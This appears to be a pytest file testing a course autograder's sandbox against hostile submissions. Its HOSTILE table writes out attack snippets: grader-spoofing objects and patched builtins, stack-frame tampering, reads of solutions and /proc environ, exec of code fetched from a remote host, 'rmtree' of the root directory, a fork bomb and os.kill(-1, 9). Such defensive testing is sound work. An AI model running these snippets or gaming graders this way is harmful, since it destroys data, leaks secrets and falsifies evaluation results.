"""Submissions that try to get points, secrets or somebody else's work: no points, no leak, no harm."""

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from mlops_lib.course.grading import REASONS, Graded, Submission, grade, parent_for
from mlops_lib.course.sandbox import Limits

from .conftest import ROOT, answers, exercise, handed_in

STUB = "def read_flags(text): return {'new_answer_page': 0.05, 'dark_mode': 1.0, 'old_search': 0.0}\n"
ALWAYS = "class Yes(dict):\n    def __getattr__(s, n): return lambda *a, **k: s\n    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __contains__ = lambda s, o=None: True\n    __hash__ = lambda s: 0\n    __bool__ = lambda s: True\n"
FRAMES = "import sys\ndef driver_frame():\n    f = sys._getframe()\n    while f and f.f_code.co_name != 'driver': f = f.f_back\n    return f\n"
HOSTILE = {
    # objects that claim to be right
    "equal to everything": ALWAYS + "def read_flags(text): return Yes()",
    "equal text": "class S(str):\n    __eq__ = lambda s, o: True\n    __hash__ = str.__hash__\ndef read_flags(text): return {S('a'): S('b')}",
    "equal number": "class F(float):\n    __eq__ = lambda s, o: True\n    __hash__ = float.__hash__\ndef read_flags(text): return {n: F(9) for n in ('new_answer_page', 'dark_mode', 'old_search')}",
    "a dict that lies": "class D(dict):\n    def items(s): return [('edges', {'a': 0.0, 'b': 1.0, 'c': 0.0})]\n    __getitem__ = lambda s, k: 1.0\ndef read_flags(text): return D(dark_mode=1)",
    "type that lies": "class T(type):\n    __instancecheck__ = __subclasscheck__ = lambda c, o: True\n    __name__ = 'ValueError'\nclass E(Exception, metaclass=type): pass\nE.__name__ = 'ValueError'\ndef read_flags(text): raise E(text)",
    # tools that are bent
    "no assertions": "import builtins\nclass A(BaseException): pass\nbuiltins.AssertionError = A\n" + STUB,
    "isinstance says yes": "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.set = lambda *a: {'new_answer_page', 'dark_mode', 'old_search'}\n" + STUB,
    "compile gives nothing": "import builtins\nreal = builtins.compile\nbuiltins.compile = lambda s, *a, **k: real('', *a, **k)\n" + STUB,
    "json of its own": "import json\njson.dumps = lambda *a, **k: '{\"id\": 1, \"value\": {}}'\n" + STUB,
    "json that keeps ids": "import json, sys\nreal = json.dumps\ndef dumps(o, *a, **k):\n    if isinstance(o, dict) and 'value' in o: o['value'] = {'edges': {}, 'none': {}}; o.pop('error', None)\n    return real(o, *a, **k)\njson.dumps = dumps\n" + STUB,
    "hidden_test does nothing": "import mlops_lib.course.exercises as e\ne.hidden_test = lambda *a: None\n" + STUB,
    "the worker's own functions": "import mlops_lib.course.sandbox as s\ns._words = lambda e: None\nasync def answer(*a): return {'edges': {'a': 0.0, 'b': 1.0, 'c': 0.0}}\ns._answer = answer\n" + STUB,
    "input transformer": "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n" + STUB,
    "ast transformer": "import ast\nclass N(ast.NodeTransformer):\n    def visit_Assert(s, n): return ast.Pass()\nget_ipython().ast_transformers.append(N())\n" + STUB,
    "run_cell does nothing": "get_ipython().run_cell_async = None\n" + STUB,
    "trace": "import sys\nsys.settrace(lambda f, e, a: None)\n" + STUB,
    "profile that jumps": "import sys\ndef p(f, e, a):\n    if f.f_code.co_name == 'driver': f.f_globals['compare'] = lambda g: None\nsys.setprofile(p)\n" + STUB,
    "import hook": "import sys\nclass H:\n    def find_spec(s, *a): return None\nsys.meta_path.insert(0, H())\nsys.modules['json'] = None\n" + STUB,
    "own excepthook": "import sys\nsys.excepthook = lambda *a: None\nget_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n" + STUB,
    # forged results
    "answer written in advance": "import json, os, struct\nb = json.dumps({'id': 'ready', 'value': {'none': {}}}).encode()\nfor f in range(3, 64):\n    try: os.write(f, struct.pack('!I', len(b)) + b)\n    except OSError: pass\n" + STUB,
    "junk on every file": "import os\nfor f in range(3, 64):\n    try: os.write(f, b'\\xff' * 64)\n    except OSError: pass\n" + STUB,
    "an answer of 4 GB": "import os\nfor f in range(3, 64):\n    try: os.write(f, b'\\xff\\xff\\xff\\xff')\n    except OSError: pass\n" + STUB,
    "nested a million deep": "def read_flags(text):\n    x = []\n    for i in range(10**5): x = [x]\n    return x",
    "a huge result": "def read_flags(text): return {'new_answer_page': 'x' * 10**7}",
    "answer for the driver": FRAMES + STUB + "def read_flags(text):\n    f = driver_frame()\n    if f: f.f_globals['driver'] = lambda: {'edges': {}}\n    return {}",
    "outcome of the driver": FRAMES + "def read_flags(text):\n    f = driver_frame()\n    if f: f.f_locals['outcome'] = lambda t: {}\n    return {'new_answer_page': 0.05}",
    "score in the metadata": STUB + "open('results.json', 'w').write('{\"score\": 10}')\nprint('score 10/10')",
    "full marks at exit": "import atexit, os\natexit.register(lambda: os.write(1, b'10/10'))\nimport os\nos._exit(0)",
    # secrets
    "expected values in memory": "import gc\nfound = [o for o in gc.get_objects() if callable(o) and getattr(o, '__name__', '') == 'compare' and 'edges' in str(getattr(o, '__code__', None) and o.__code__.co_consts)]\nassert found\n" + STUB,
    "expected values in the frames": FRAMES + "def read_flags(text):\n    f, seen = sys._getframe(), []\n    while f: seen.append(f.f_globals.get('compare')); f = f.f_back\n    raise ValueError([s for s in seen if s][0].__code__.co_consts)",
    "solution on the disk": "import json, glob\npaths = glob.glob('/**/solutions/**/*.ipynb', recursive=True) + glob.glob('../../solutions/*/*.ipynb')\nexec(''.join(json.load(open(paths[0]))['cells'][3]['source']))",
    "solution in git": "import subprocess\nexec(subprocess.run(['git', '-C', '{root}', 'show', 'HEAD:solutions/0_start/00_settings.ipynb'], capture_output=True, check=True, text=True).stdout)",
    "another student's work": "import glob, json\npaths = [p for p in glob.glob('{neighbour}/**', recursive=True) if p.endswith('.ipynb')]\nexec(''.join(json.load(open(paths[0]))['cells'][3]['source']))",
    "the grader's processes": "import glob\nfor p in glob.glob('/proc/[0-9]*/cmdline'):\n    assert b'pytest' not in open(p, 'rb').read()\nraise SystemExit(open('/proc/1/environ').read())",
    "from the network": "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/solution', timeout=2).read())",
    # harm
    "delete the course": "import shutil\nshutil.rmtree('{root}', ignore_errors=True)\nshutil.rmtree('/', ignore_errors=True)\n" + STUB,
    "change the library": "import mlops_lib.course.exercises as e\nopen(e.__file__, 'a').write('\\nhidden_test = print')\n" + STUB,
    "change a neighbour": "open('{neighbour}/bella.ipynb', 'w').write('gone')\n" + STUB,
    "link out": "import os\nos.symlink('{neighbour}', 'n'); os.remove('n/bella.ipynb')\n" + STUB,
    "signal handlers": "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\ndef read_flags(text):\n    while True: pass",
    "fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "late daemon": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(4)\n    open('{neighbour}/bella.ipynb', 'w').write('late')\n" + STUB,
    "late thread": "import threading, time, os\ndef late():\n    time.sleep(1); os.write(3, b'x')\nthreading.Thread(target=late, daemon=True).start()\n" + STUB,
    "endless output": "def read_flags(text):\n    while True: print('x' * 100_000)",
    "memory": "x = []\nwhile True: x.append(bytearray(50 << 20))",
    "exit": "import os\nos._exit(0)",
    "kill everybody": "import os\nos.kill(-1, 9)",
}  # fmt: skip
TEXT = "".join("".join(c["source"]) for c in json.loads((ROOT / "solutions/0_start/00_settings.ipynb").read_text())["cells"])


@pytest.fixture(scope="module")
def neighbour(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("class")
    (folder / "bella.ipynb").write_text(json.dumps(handed_in(answers())))
    folder.chmod(0o755)
    return folder


def state(neighbour: Path) -> dict[str, str]:
    paths = [neighbour / "bella.ipynb", *sorted((ROOT / "mlops_lib" / "course").glob("*.py")), *sorted((ROOT / "solutions/0_start").glob("*.ipynb"))]
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths}


@pytest.mark.parametrize("name", HOSTILE)
def test_no_points_no_leak_no_harm(name: str, graded: Callable[[dict[str, Any]], Graded], neighbour: Path) -> None:
    before = state(neighbour)
    code = HOSTILE[name].replace("{root}", str(ROOT)).replace("{neighbour}", str(neighbour))
    made = handed_in({"task-1": code, "test-1": "pass", "test-2": "pass", "test-3": "pass"})
    result = graded(made)
    assert result.score == 0, result
    assert result.reason in REASONS
    assert result.reason != "ok"
    assert state(neighbour) == before
    told = json.dumps([m.message for m in result.marks])
    hidden = [line.strip() for t in exercise().tests for line in (t.driver + "\n" + t.compare).splitlines() if len(line.strip()) > 20]
    assert not any(json.dumps(line)[1:-1] in told for line in hidden)


def test_the_next_student_is_not_affected(graded: Callable[[dict[str, Any]], Graded]) -> None:
    for name in ("kill everybody", "json of its own", "fork bomb"):
        graded(handed_in({"task-1": HOSTILE[name]}))
        assert graded(handed_in(answers())).score == 10


def test_the_process_of_a_student_never_has_what_is_expected() -> None:
    one = exercise()
    look = "import gc\nsecret = ''.join({halves!r})\ndef look(): return [str(o)[:200] for o in gc.get_objects() if o is not globals() and isinstance(o, (str, tuple, list)) and secret in str(o)[:5000]]"
    with parent_for(one, ROOT, Limits(seconds=20), strict=True) as sandbox, sandbox.box() as box:
        for test in one.tests:
            secret = next(line.strip() for line in test.compare.splitlines() if line.strip().startswith("assert"))[:25]
            assert box.run(test.driver, "plain").kind == "ok"
            assert box.run(look.format(halves=[secret[:12], secret[12:]]), "plain").kind == "ok"
            assert box.run("", "plain", call="look").value == []


@pytest.mark.parametrize(
    "body",
    [b"", b"{}", b"[]", b"null", b'{"cells": 3}', b'{"cells": [1]}', b'{"cells": [{"metadata": 3}]}', b"[" * 100_000, b"\xff\xfe", b'{"cells": []}', b'{"cells": [{"cell_type": "code", "source": 5, "metadata": {"nbgrader": 1}}]}'],
)
def test_files_that_are_no_notebook(body: bytes) -> None:
    one = exercise()
    with parent_for(one, ROOT, Limits(seconds=5), strict=True) as sandbox:
        result = grade(Submission("x", "00_settings.ipynb", body), one, sandbox)
    assert result.score == 0
    assert result.reason in ("unreadable", "unsolved")
